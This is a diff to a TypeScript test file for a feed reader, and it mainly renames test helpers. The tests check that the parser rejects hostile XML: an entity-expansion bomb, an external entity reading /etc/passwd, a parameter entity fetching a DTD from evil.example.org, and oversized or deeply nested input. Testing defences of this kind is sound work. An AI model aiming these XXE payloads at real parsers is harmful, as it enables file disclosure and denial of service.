@@ -46,16 +46,16 @@ test("markup is removed no matter how it is wrapped", () => {
 });
 
 test("custom entities, excessive depth and excessive size are rejected before parsing", () => {
-  const bomb = (entities: string) =>
+  const buildBomb = (entities: string) =>
     `<?xml version="1.0"?><!DOCTYPE rss [${entities}]>${buildRss("<item><title>&z;</title></item>")}`;
-  expect(getProblem(bomb('<!ENTITY a "ha"><!ENTITY z "&a;&a;&a;">'))).toBe("hostile");
-  expect(getProblem(bomb('<!ENTITY z SYSTEM "file:///etc/passwd">'))).toBe("hostile");
-  expect(getProblem(bomb('<!ENTITY % z SYSTEM "https://evil.example.org/x.dtd"> %z;'))).toBe("hostile");
-  expect(getProblem(bomb(`<!ENTITY z "${"x".repeat(100_000)}">`))).toBe("hostile");
+  expect(getProblem(buildBomb('<!ENTITY a "ha"><!ENTITY z "&a;&a;&a;">'))).toBe("hostile");
+  expect(getProblem(buildBomb('<!ENTITY z SYSTEM "file:///etc/passwd">'))).toBe("hostile");
+  expect(getProblem(buildBomb('<!ENTITY % z SYSTEM "https://evil.example.org/x.dtd"> %z;'))).toBe("hostile");
+  expect(getProblem(buildBomb(`<!ENTITY z "${"x".repeat(100_000)}">`))).toBe("hostile");
   expect(getProblem(buildRss(`<item>${"<a>".repeat(200)}</item>`))).toBe("hostile");
   expect(getProblem(buildRss("<i/>".repeat(300_000)))).toBe("hostile");
   expect(getProblem('<!DOCTYPE rss [ <!ENTITY a "')).toBe("hostile");
-  expect(read(bomb('<!ENTITY nbsp "&#160;"><!ENTITY z "zed">')).items).toHaveLength(1);
+  expect(read(buildBomb('<!ENTITY nbsp "&#160;"><!ENTITY z "zed">')).items).toHaveLength(1);
 });
 
 test("anything that is not a feed is rejected with a reason", () => {
@@ -114,25 +114,25 @@ test("at most 500 items are read", () => {
 });
 
 test("the worker thread returns the same result, rejects slow input, and continues with the next feed", async () => {
-  const feed = (text: string) => ({
+  const buildDocument = (text: string) => ({
     bytes: toBytes(text),
     contentType: "",
     url: "https://e.org/f",
     now: NOW,
   });
-  const good = buildRss("<item><title>Good</title></item>");
+  const validFeed = buildRss("<item><title>Good</title></item>");
   const readerWithShortTimeout = createFeedReader({ timeoutMs: 1 });
-  await expect(readerWithShortTimeout.read(feed(repeatHtml("<b>text</b>")))).rejects.toMatchObject({
+  await expect(readerWithShortTimeout.read(buildDocument(repeatHtml("<b>text</b>")))).rejects.toMatchObject({
     problem: "too_slow",
   });
   await readerWithShortTimeout.close();
 
-  const [first, bad, second] = await Promise.allSettled([
-    reader.read(feed(good)),
-    reader.read(feed("<html>")),
-    reader.read(feed(good)),
+  const [first, invalidResult, second] = await Promise.allSettled([
+    reader.read(buildDocument(validFeed)),
+    reader.read(buildDocument("<html>")),
+    reader.read(buildDocument(validFeed)),
   ]);
-  expect(first).toEqual({ status: "fulfilled", value: parseFeedArticles(feed(good)) });
-  expect(bad).toMatchObject({ status: "rejected", reason: { problem: "unreadable" } });
+  expect(first).toEqual({ status: "fulfilled", value: parseFeedArticles(buildDocument(validFeed)) });
+  expect(invalidResult).toMatchObject({ status: "rejected", reason: { problem: "unreadable" } });
   expect(second).toMatchObject({ status: "fulfilled" });
 });
